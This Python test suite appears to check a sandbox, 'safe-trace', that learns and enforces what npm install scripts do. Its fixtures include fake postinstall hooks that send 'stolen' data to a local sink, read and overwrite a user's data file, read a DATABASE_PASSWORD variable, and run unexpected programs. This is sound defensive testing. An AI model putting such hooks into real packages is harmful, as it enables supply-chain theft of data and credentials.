"""`safe-trace policy learn` and `--locked`: what a package was seen to do, and nothing else."""

import os
import re
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "managers"))

import environment  # noqa: E402
import processes  # noqa: E402
from npm_case import NpmCase  # noqa: E402
from sinks import TcpSink, http_reply  # noqa: E402
from trace_file import newest_trace  # noqa: E402
from world import read_text, write_file  # noqa: E402

LOCK = "safe-trace.lock"
LEARNED_FROM = re.compile(r"^# Learned from run .*\n", re.M)

# What each version does; it never fails by itself. %(port)d: the sink. ASK holds the places.
BUILD_JS = r"""
const fs = require('fs'), path = require('path'), child = require('child_process');
const attempt = (what) => { try { return what(); } catch (error) { return String(error); } };
fs.writeFileSync(path.join(__dirname, 'built.txt'), 'built');
"""
RUN_JS = BUILD_JS + "child.spawnSync('/usr/bin/printf', ['hello']);\n"
# A program that the clean version does not run; what it prints is kept for the test.
OTHER_PROGRAM_JS = RUN_JS + r"""
const other = child.spawnSync('/usr/bin/env', ['echo', 'ran-another']);
fs.writeFileSync(path.join(__dirname, 'said.txt'), String(other.stdout) + String(other.error));
"""
SEND_JS = RUN_JS + r"""
const sink = require('net').connect(%(port)d, '127.0.0.1', () => { sink.end('stolen'); });
sink.on('error', () => {});
"""
READ_JS = RUN_JS + r"""
const data = path.join(process.env.HOME, 'data', 'list.txt');
fs.writeFileSync(path.join(__dirname, 'said.txt'), attempt(() => fs.readFileSync(data, 'utf8')));
"""
WRITE_JS = RUN_JS + r"""
attempt(() => fs.writeFileSync(path.join(process.env.HOME, 'data', 'list.txt'), 'changed'));
"""
ASK_JS = RUN_JS + r"""
attempt(() => child.execFileSync('python3', ['-c', 'import ctypes\n' +
  'ctypes.CDLL(None).getenv(b"DATABASE_PASSWORD")'], {stdio: 'inherit'}));
"""
TOOL_JS = BUILD_JS + "child.spawnSync(path.join(__dirname, 'tool'), []);\n"


class BehaviourLock(NpmCase):
    with_headers = False

    def setUp(self):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)
        super().setUp()

    def fill_registry(self, registry):
        scripts = {"postinstall": "node post.js"}
        for version, text in (("1.0.0", RUN_JS), ("1.0.1", RUN_JS), ("1.1.0", OTHER_PROGRAM_JS),
                              ("1.2.0", SEND_JS % {"port": self.sink.port}), ("1.3.0", READ_JS),
                              ("1.4.0", WRITE_JS), ("1.5.0", ASK_JS)):
            registry.add("st-tiny", version, files={"post.js": text, "index.js": ""},
                         scripts=scripts)
        registry.add("st-other", "1.0.0", files={"post.js": RUN_JS, "index.js": ""},
                     scripts=scripts)
        self.add_tool(registry, b"")

    def add_tool(self, registry, more):
        """A program of the package's own; bytes behind an ELF file change nothing but its hash."""
        with open("/usr/bin/true", "rb") as file:
            program = file.read() + more
        registry.add("st-tool", "1.0.0", executable=["tool"],
                     files={"post.js": TOOL_JS, "index.js": "", "tool": program},
                     scripts={"postinstall": "node post.js"})

    def install(self, version, *options, lock=None, supervised=True, status=0, name="st-tiny",
                env=None):
        """In a fresh world, whose lock is `lock` and whose home holds data. Returns the world and
        what it said."""
        def prepare(world):
            self.project(world, {name: version})
            write_file(os.path.join(world.home, "data", "list.txt"), "customers")
            if lock is not None:
                write_file(os.path.join(world.project, LOCK), lock)

        world, outcome = self.manage([self.npm, "install"], supervised, prepare, status=status,
                                     options=options, env=env)
        return world, outcome

    def learn(self, *worlds):
        """The lock of the newest run of each world."""
        traces = [newest_trace(world.state).path for world in worlds]
        done = subprocess.run([environment.safe_trace(), "policy", "learn", "-o", "-", *traces],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)
        self.assertEqual(0, done.returncode, done.stderr.decode())
        return done.stdout.decode()

    def clean_lock(self, *options, version="1.0.0", name="st-tiny"):
        world, _ = self.install(version, *options, name=name)
        return self.learn(world)

    def refusals(self, world, outcome, rule, status="alert"):
        found = newest_trace(world.state).find(rule__id=rule)
        self.assertTrue(found, "no %s\n%s" % (rule, outcome.describe()))
        for event in found:
            self.assertEqual(status, event["event.kind"], event)
        self.assertIn(rule.encode(), outcome.stderr)
        return found

    def installed_file(self, world, name):
        return os.path.join(world.project, "node_modules", "st-tiny", name)

    def test_the_same_install_passes_again_elsewhere_and_learns_the_same(self):
        lock = self.clean_lock()
        self.assertIn('[[package]]\necosystem = "npm"\nname = "st-tiny"\n', lock)
        self.assertIn('  "/usr/bin/printf",\n', lock)
        self.assertIn('[[manager]]\necosystem = "npm"\nhosts = [\n  "127.0.0.1",\n', lock)
        for _ in range(2):
            world, outcome = self.install("1.0.0", "--locked", lock=lock)
            self.assertNotIn(b"lock.", outcome.stderr)
            self.assertEqual("built", read_text(self.installed_file(world, "built.txt")))
            self.assertEqual(LEARNED_FROM.sub("", lock), LEARNED_FROM.sub("", self.learn(world)))

    def test_an_honest_new_version_passes_and_is_said(self):
        world, outcome = self.install("1.0.1", "--locked", lock=self.clean_lock())
        self.assertIn(b"st-tiny ran as 1.0.1, a version that the lock has not seen",
                      outcome.stderr)

    def test_a_program_that_the_lock_has_not_is_not_run(self):
        bare, _ = self.install("1.1.0", supervised=False)
        self.assertIn("ran-another", read_text(self.installed_file(bare, "said.txt")))
        lock = self.clean_lock()
        world, outcome = self.install("1.1.0", "--locked", lock=lock, status=120)
        self.assertIn("EACCES", read_text(self.installed_file(world, "said.txt")))
        found = self.refusals(world, outcome, "lock.unknown-program")
        self.assertEqual("st-tiny", found[0]["package.name"])
        self.assertEqual([], newest_trace(world.state).find(
            event__action="process-exec", process__executable="/usr/bin/env",
            safe_trace__role="package"))
        self.assertIn(b"safe-trace policy learn", outcome.stderr)

    def test_a_host_that_was_granted_but_is_not_in_the_lock_is_refused(self):
        grant = ("--grant", "st-tiny=127.0.0.1:%d" % self.sink.port)
        lock = self.clean_lock(*grant)
        self.install("1.2.0", *grant)
        self.assertEqual(1, self.sink.count(b"stolen"), "granted, it gets out")
        self.sink.clear()
        world, outcome = self.install("1.2.0", "--locked", *grant, lock=lock, status=120)
        self.assertTrue(self.sink.untouched)
        self.refusals(world, outcome, "lock.unknown-host")

    def test_the_manager_is_held_to_its_hosts(self):
        lock = self.clean_lock()
        without = lock.replace('hosts = [\n  "127.0.0.1",\n]', "hosts = []")
        self.assertNotEqual(lock, without)
        world, outcome = self.install("1.0.0", "--locked", lock=without, status=None)
        self.assertNotEqual(0, outcome.status)
        self.assertFalse(os.path.exists(self.installed_file(world, "built.txt")))
        found = self.refusals(world, outcome, "lock.unknown-host")
        self.assertEqual("manager", found[0]["safe_trace.role"])

    def with_data(self, version, lock=None, status=0, locked=()):
        """The user lets packages use ~/data; every open is recorded."""
        return self.install(version, "--allow-write", "~/data", "--log-level", "full", *locked,
                            lock=lock, status=status)

    def test_a_kind_of_place_that_the_lock_has_not_is_neither_read_nor_written(self):
        world, _ = self.with_data("1.3.0")
        self.assertEqual("customers", read_text(self.installed_file(world, "said.txt")))
        world, _ = self.with_data("1.4.0")
        data = os.path.join("data", "list.txt")
        self.assertEqual("changed", read_text(os.path.join(world.home, data)))
        clean, _ = self.with_data("1.0.0")
        lock = self.learn(clean)
        self.assertIn("reads = [", lock)
        world, outcome = self.with_data("1.0.1", lock, locked=("--locked",))
        self.assertNotIn(b"lock.unknown", outcome.stderr)
        world, outcome = self.with_data("1.3.0", lock, 120, ("--locked",))
        self.assertIn("EACCES", read_text(self.installed_file(world, "said.txt")))
        self.refusals(world, outcome, "lock.unknown-path-class")
        world, outcome = self.with_data("1.4.0", lock, 120, ("--locked",))
        self.assertEqual("customers", read_text(os.path.join(world.home, data)))
        self.refusals(world, outcome, "lock.unknown-path-class")

    def test_a_hidden_variable_that_was_never_asked_for_is_a_difference(self):
        secret = {"DATABASE_PASSWORD": "st-secret-1"}
        with_python, _ = self.install("1.5.0", env=secret)
        asked = self.learn(with_python)
        self.assertIn('variables = [\n  "DATABASE_PASSWORD",\n]', asked)
        _, outcome = self.install("1.5.0", "--locked", lock=asked, env=secret)
        self.assertNotIn(b"lock.", outcome.stderr)
        never = asked.replace('  "DATABASE_PASSWORD",\n', "")
        world, outcome = self.install("1.5.0", "--locked", lock=never, env=secret, status=120)
        self.refusals(world, outcome, "lock.unknown-variable")

    def test_code_of_a_package_that_the_lock_has_not_does_not_run(self):
        lock = self.clean_lock()
        world, outcome = self.install("1.0.0", "--locked", lock=lock, name="st-other", status=None)
        self.assertNotEqual(0, outcome.status, outcome.describe())
        self.refusals(world, outcome, "lock.unknown-package")
        self.assertIn(b"st-other", outcome.stderr)
        self.assertFalse(os.path.exists(os.path.join(
            world.project, "node_modules", "st-other", "built.txt")))

    def test_a_program_of_the_same_version_with_another_content_is_a_difference(self):
        lock = self.clean_lock(name="st-tool")
        self.assertIn("tool sha256:", lock)
        _, outcome = self.install("1.0.0", "--locked", lock=lock, name="st-tool")
        self.assertNotIn(b"lock.", outcome.stderr)
        self.add_tool(self.registry, b"another build")
        world, outcome = self.install("1.0.0", "--locked", lock=lock, name="st-tool", status=120)
        self.refusals(world, outcome, "lock.changed-program")

    def test_a_lock_opens_nothing(self):
        lock = self.clean_lock()
        loose = lock.replace("hosts = []", 'hosts = ["127.0.0.1"]')
        self.assertNotEqual(lock, loose)
        world, outcome = self.install("1.2.0", "--locked", lock=loose, status=120)
        self.assertTrue(self.sink.untouched)
        self.refusals(world, outcome, "network.package")

    def test_nothing_runs_without_a_lock_or_with_a_broken_one(self):
        for lock in (None, "", "lock_version = 1\n[[package]]\nhost = []\n", "lock_version = 9\n"):
            world, outcome = self.install("1.0.0", "--locked", lock=lock, status=125)
            self.assertIn(LOCK.encode(), outcome.stderr)
            self.assertFalse(os.path.exists(os.path.join(world.project, "node_modules")))

    def test_supervised_code_does_not_write_the_lock(self):
        world = self.fresh_world()
        lock = os.path.join(world.project, LOCK)
        write_file(lock, "lock_version = 1\n")
        script = "echo '[[package]]' >> %s; exit 0" % LOCK
        bare = processes.run(["sh", "-c", script], world.env(), world.project, 60)
        self.assertEqual(0, bare.status)
        self.assertIn("[[package]]", read_text(lock))
        write_file(lock, "lock_version = 1\n")
        processes.run([environment.safe_trace(), "--locked", "sh", "-c", script], world.env(),
                      world.project, 60)
        self.assertEqual("lock_version = 1\n", read_text(lock))
